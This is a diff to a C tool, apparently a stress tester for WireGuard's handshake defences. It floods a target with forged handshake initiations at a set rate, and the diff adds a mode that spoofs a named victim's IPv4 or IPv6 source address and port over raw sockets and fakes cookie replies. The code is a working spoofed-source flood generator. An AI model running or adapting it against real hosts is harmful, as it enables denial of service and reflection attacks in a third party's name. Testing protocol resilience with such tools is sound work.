@@ -2,11 +2,14 @@
 /* A flood of handshake initiations that nobody made:
  *
  *	forge ADDRESS PORT RATE SECONDS SOURCES [PUBLIC-KEY]
+ *	forge ADDRESS PORT RATE SECONDS VICTIM/PORT [PUBLIC-KEY]
  *
  * to an IPv4 address, RATE a second. Their contents are random; with the receiver's public key (base64)
  * their mac1 is right, so that only the curve, or a cookie, can tell. SOURCES 1: from our own address,
  * in UDP super-packets, which costs this program little; more: each from another of that many addresses
- * from 10.64.0.0 on, by a raw socket. Prints how many it sent and in how many seconds. */
+ * from 10.64.0.0 on, by a raw socket. With an address and a port in place of SOURCES, all are in the
+ * name of that victim: half of them from its port and half from any, and two of five claim to have a
+ * cookie. ADDRESS and VICTIM may be IPv6 then, and the half is from any address of its /64. Prints how many it sent and in how many seconds. */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <netinet/ip.h>
@@ -31,8 +34,20 @@ struct packet {
 	struct wg_message_initiation message;
 };
 
+struct packet6 {
+	u8 ip[40];
+	struct udphdr udp;
+	struct wg_message_initiation message;
+};
+
 static struct wg_message_initiation pool[POOL];
 static struct sockaddr_in to;
+static struct sockaddr_in6 to6;
+static struct { /* nobody's where the family is 0 */
+	int family;
+	u8 address[16];
+	u16 port;
+} victim;
 
 static double now(void)
 {
@@ -109,9 +124,62 @@ static int send_raw(int fd, unsigned int next, unsigned int n, u32 sources)
 	return sendmmsg(fd, messages, n, 0);
 }
 
+/* Of what a checksum is over. */
+static u32 sum(u32 sum, const void *data, size_t len)
+{
+	const u8 *p = data;
+
+	for (size_t i = 0; i < len; i += 2)
+		sum += (u32)p[i] << 8 | (i + 1 < len ? p[i + 1] : 0);
+	return sum;
+}
+
+static void forge_udp(struct udphdr *udp, struct wg_message_initiation *message, unsigned int n)
+{
+	*message = pool[n % POOL];
+	udp->source = htons(n % 2 ? (u16)(1024 + n * 2654435761U % 60000) : victim.port);
+	udp->dest = to.sin_port;
+	udp->len = htons(sizeof(*udp) + sizeof(*message));
+	udp->check = 0;
+	if (n % 5 < 2)
+		memcpy(message->macs.mac2, message->ephemeral, WG_MAC_LEN);
+}
+
+/* One message in the victim's name. */
+static int send_as_victim(int fd, unsigned int n)
+{
+	u32 check = IPPROTO_UDP + sizeof(struct udphdr) + sizeof(struct wg_message_initiation);
+	struct packet p4 = { 0 };
+	struct packet6 p6 = { 0 };
+
+	if (victim.family == AF_INET) {
+		forge_udp(&p4.udp, &p4.message, n);
+		p4.ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
+					.daddr = to.sin_addr.s_addr };
+		memcpy(&p4.ip.saddr, victim.address, 4);
+		return sendto(fd, &p4, sizeof(p4), 0, (void *)&to, sizeof(to)) < 0 ? -1 : 1;
+	}
+	forge_udp(&p6.udp, &p6.message, n);
+	p6.ip[0] = 0x60;
+	p6.ip[5] = sizeof(p6) - sizeof(p6.ip);
+	p6.ip[6] = IPPROTO_UDP;
+	p6.ip[7] = 64;
+	memcpy(p6.ip + 8, victim.address, 16);
+	memcpy(p6.ip + 24, &to6.sin6_addr, 16);
+	if (n % 2)
+		memcpy(p6.ip + 16, &p6.message.ephemeral, 8);
+	check = sum(check, p6.ip + 8, 32);
+	check = sum(check, &p6.udp, sizeof(p6) - sizeof(p6.ip));
+	while (check >> 16)
+		check = (check & 0xffff) + (check >> 16);
+	p6.udp.check = htons((u16)~check);
+	return sendto(fd, &p6, sizeof(p6), 0, (void *)&to6, sizeof(to6)) < 0 ? -1 : 1;
+}
+
 static void flood(double rate, double seconds, u32 sources)
 {
-	int fd = sources > 1 ? socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW) :
+	int fd = victim.family ? socket(victim.family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW) :
+		 sources > 1 ? socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW) :
 			       socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
 	double begin = now(), t = begin;
 	unsigned long sent = 0;
@@ -127,26 +195,48 @@ static void flood(double rate, double seconds, u32 sources)
 			usleep(300);
 			continue;
 		}
-		done = sources > 1 ? send_raw(fd, (unsigned int)sent, n, sources) :
-				     send_own(fd, (unsigned int)sent, n);
-		if (done < 0 && errno != ENOBUFS && errno != ECONNREFUSED)
+		if (victim.family)
+			done = send_as_victim(fd, (unsigned int)sent);
+		else
+			done = sources > 1 ? send_raw(fd, (unsigned int)sent, n, sources) :
+					     send_own(fd, (unsigned int)sent, n);
+		/* A link may be down for a moment. */
+		if (done < 0 && errno != ENOBUFS && errno != ECONNREFUSED && errno != EINVAL &&
+		    errno != ENETUNREACH && errno != ENETDOWN)
 			die("send");
 		sent += done > 0 ? (unsigned long)done : 0;
 	}
 	printf("%lu %.3f\n", sent, t - begin);
 }
 
+static bool parse_places(const char *target, char *sources)
+{
+	char *slash = strchr(sources, '/');
+
+	if (!slash)
+		return inet_aton(target, &to.sin_addr) && atof(sources) >= 1;
+	*slash = 0;
+	victim.port = (u16)atoi(slash + 1);
+	victim.family = strchr(sources, ':') ? AF_INET6 : AF_INET;
+	return inet_pton(victim.family, sources, victim.address) == 1 &&
+	       inet_pton(victim.family, target,
+			 victim.family == AF_INET ? (void *)&to.sin_addr :
+						    (void *)&to6.sin6_addr) == 1;
+}
+
 int main(int argc, char **argv)
 {
 	u8 public_key[WG_PUBLIC_LEN];
 
-	if (argc < 6 || !inet_aton(argv[1], &to.sin_addr) || atof(argv[5]) < 1 ||
+	if (argc < 6 || !parse_places(argv[1], argv[5]) ||
 	    (argc > 6 && !wg_key_from_base64(public_key, argv[6], strlen(argv[6])))) {
-		fprintf(stderr, "usage: forge ADDRESS PORT RATE SECONDS SOURCES [PUBLIC-KEY]\n");
+		fprintf(stderr, "usage: forge ADDRESS PORT RATE SECONDS SOURCES|VICTIM/PORT [PUBLIC-KEY]\n");
 		return 1;
 	}
 	to.sin_family = AF_INET;
 	to.sin_port = htons((u16)atoi(argv[2]));
+	/* A raw socket wants no port. */
+	to6.sin6_family = AF_INET6;
 	fill_pool(argc > 6 ? public_key : NULL);
 	flood(atof(argv[3]), atof(argv[4]), (u32)atof(argv[5]));
 	return 0;
